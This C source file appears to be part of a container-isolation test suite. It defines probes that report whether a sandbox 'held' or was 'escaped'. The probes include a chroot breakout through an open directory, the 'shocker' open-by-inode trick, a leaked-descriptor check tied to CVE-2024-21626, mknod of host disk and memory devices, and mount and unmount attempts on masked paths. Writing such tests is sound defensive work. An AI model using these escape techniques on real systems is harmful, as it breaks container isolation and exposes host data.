/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks by descriptors, folders, mounts and devices. */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

/* fds SECRET: any descriptor but 0, 1, 2 is one too many (rule 9, CVE-2024-21626). */
static int run_fds(int argc, char **argv)
{
	int extra = 0;

	for (int fd = 3; fd < 1024; fd++) {
		struct stat st;
		char link[64], target[512] = "";

		if (fstat(fd, &st) < 0) {
			continue;
		}
		extra++;
		snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
		if (readlink(link, target, sizeof(target) - 1) < 0) {
			snprintf(target, sizeof(target), "mode %o", st.st_mode);
		}
		escaped("fds: %d is %s", fd, target);
		if (argc > 0 && S_ISDIR(st.st_mode)) {
			finds_secret(fd, argv[0], target);
		}
	}
	if (extra == 0) {
		held("fds: only 0, 1, 2");
	}
	return 0;
}

/* cwd SECRET: the folder that we were started in must be inside (CVE-2024-21626). */
static int run_cwd(int argc, char **argv)
{
	char path[4096] = "";
	int here = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	if (syscall(SYS_getcwd, path, sizeof(path)) < 0 || path[0] != '/') {
		escaped("cwd: %s", path);
	} else {
		held("cwd: %s", path);
	}
	if (argc > 0 && here >= 0 && !finds_secret(here, argv[0], "cwd")) {
		held("cwd: the secret is not above it");
	}
	return 0;
}

/* chroot SECRET: the old way out of a chroot, by a folder kept open (rule 6). */
static int run_chroot(int argc, char **argv)
{
	int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	if (argc < 1 || root < 0) {
		return 2;
	}
	(void)mkdir("/tmp/jail", 0755);
	if (chroot("/tmp/jail") < 0) {
		held("chroot: %s", strerror(errno));
		return 0;
	}
	if (fchdir(root) < 0 || chdir("../../../../../../../../..") < 0 || chroot(".") < 0) {
		held("chroot: %s", strerror(errno));
	} else if (!finds_secret(AT_FDCWD, argv[0], "chroot")) {
		held("chroot: came back to the container's own root");
	}
	return 0;
}

/* Open by handle the root of the file system that `at` is on. */
static int open_root_handle(const char *at)
{
	struct {
		struct file_handle h;
		unsigned char      bytes[128];
	} f = { .h = { .handle_bytes = 128 } };
	int mount_id = 0;
	int fd = open(at, O_RDONLY | O_CLOEXEC);
	uint32_t ino2[2] = { 2, 0 };

	if (fd < 0 || name_to_handle_at(AT_FDCWD, at, &f.h, &mount_id, 0) < 0) {
		return -1;
	}
	memcpy(f.bytes, ino2, sizeof(ino2));
	f.h.handle_bytes = 8;
	f.h.handle_type = 1;
	return open_by_handle_at(fd, &f.h, O_RDONLY);
}

/* handle SECRET [AT]: a file by its inode number, past all paths ("shocker"). */
static int run_handle(int argc, char **argv)
{
	int fd = open_root_handle(argc > 1 ? argv[1] : "/bin/attack");

	if (fd < 0) {
		held("handle: %s", strerror(errno));
	} else if (argc > 0 && finds_secret(fd, argv[0], "handle")) {
		return 0;
	} else {
		escaped("handle: opened a root by its inode");
	}
	return 0;
}

/* disk MAJOR MINOR: a node for one of the host's disks (device rules, class H). */
static int run_disk(int argc, char **argv)
{
	int fd = -1;

	if (argc < 2) {
		return 2;
	}
	if (mknod("/tmp/disk", S_IFBLK | 0600,
		  makedev((unsigned)strtoul(argv[0], NULL, 10), (unsigned)strtoul(argv[1], NULL, 10))) < 0) {
		held("disk: mknod: %s", strerror(errno));
		return 0;
	}
	fd = open("/tmp/disk", O_RDONLY | O_CLOEXEC);
	verdict(fd, "disk: open");
	return 0;
}

/* memory: the host's memory and kernel log by nodes of our own. */
static int run_memory(int argc, char **argv)
{
	static const struct { const char *name; unsigned major, minor; } nodes[] = {
		{ "mem", 1, 1 }, { "kmem", 1, 2 }, { "port", 1, 4 }, { "kmsg", 1, 11 }, { "loop-control", 10, 237 },
		{ "fuse", 10, 229 }, { "autofs", 10, 235 }, { "hpet", 10, 228 },
	};

	(void)argc;
	(void)argv;
	for (size_t i = 0; i < sizeof(nodes) / sizeof(nodes[0]); i++) {
		char path[64];

		snprintf(path, sizeof(path), "/tmp/%s", nodes[i].name);
		if (mknod(path, S_IFCHR | 0600, makedev(nodes[i].major, nodes[i].minor)) < 0) {
			held("memory %s: mknod: %s", nodes[i].name, strerror(errno));
			continue;
		}
		verdict(open(path, O_RDWR | O_CLOEXEC), nodes[i].name);
	}
	return 0;
}

/* mounts SECRET: every way to mount something new, or to take away what hides something. */
static int run_mounts(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	(void)mkdir("/tmp/m", 0755);
	verdict(mount("none", "/tmp/m", "tmpfs", 0, NULL), "mount tmpfs");
	verdict(mount("none", "/tmp/m", "proc", 0, NULL), "mount proc");
	verdict(mount("none", "/tmp/m", "sysfs", 0, NULL), "mount sysfs");
	verdict(mount("none", "/tmp/m", "cgroup2", 0, NULL), "mount cgroup2");
	verdict(mount("/", "/tmp/m", NULL, MS_BIND, NULL), "bind");
	verdict(mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL), "remount /");
	verdict(mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL), "remount /proc/sys");
	verdict(umount2("/proc/kcore", MNT_DETACH), "umount a mask");
	verdict(umount2("/proc", MNT_DETACH), "umount /proc");
	verdict(syscall(SYS_fsopen, "proc", 0), "fsopen");
	verdict(syscall(SYS_open_tree, AT_FDCWD, "/proc", 1), "open_tree clone");
	verdict(syscall(SYS_pivot_root, "/tmp", "/tmp"), "pivot_root");
	verdict(unshare(CLONE_NEWNS), "unshare mount");
	return 0;
}

/* writable PATH...: files that are to be read-only or empty. */
static int run_writable(int argc, char **argv)
{
	for (int i = 0; i < argc; i++) {
		struct stat st;
		int fd = -1;

		if (lstat(argv[i], &st) < 0) {
			held("writable %s: %s", argv[i], strerror(errno));
			continue;
		}
		if (S_ISDIR(st.st_mode)) {
			char path[512];

			snprintf(path, sizeof(path), "%s/attack-was-here", argv[i]);
			fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
		} else {
			fd = open(argv[i], O_WRONLY | O_CLOEXEC);
		}
		verdict(fd, argv[i]);
	}
	return 0;
}

/* masked PATH...: hidden files are empty, hidden folders have nothing in them. */
static int run_masked(int argc, char **argv)
{
	for (int i = 0; i < argc; i++) {
		char byte = 0;
		struct stat st;
		DIR *dir = NULL;
		int fd = open(argv[i], O_RDONLY | O_NONBLOCK | O_CLOEXEC), n = 0;

		if (fd < 0 || fstat(fd, &st) < 0) {
			held("masked %s: %s", argv[i], strerror(errno));
			continue;
		}
		if (!S_ISDIR(st.st_mode)) {
			ssize_t r = read(fd, &byte, 1);

			if (r > 0) {
				escaped("masked %s: has content", argv[i]);
			} else {
				held("masked %s: empty, node %u:%u", argv[i], major(st.st_rdev),
				     minor(st.st_rdev));
			}
			continue;
		}
		dir = fdopendir(fd);
		while (dir && readdir(dir)) {
			n++;
		}
		if (n > 2) {
			escaped("masked %s: %d entries", argv[i], n - 2);
		} else {
			held("masked %s: an empty folder", argv[i]);
		}
	}
	return 0;
}

const struct attack attacks_files[] = {
	{ "fds", run_fds, "[SECRET]" },
	{ "cwd", run_cwd, "[SECRET]" },
	{ "chroot", run_chroot, "SECRET" },
	{ "handle", run_handle, "SECRET [AT]" },
	{ "disk", run_disk, "MAJOR MINOR" },
	{ "memory", run_memory, "" },
	{ "mounts", run_mounts, "" },
	{ "writable", run_writable, "PATH..." },
	{ "masked", run_masked, "PATH..." },
	{ NULL, NULL, NULL },
};
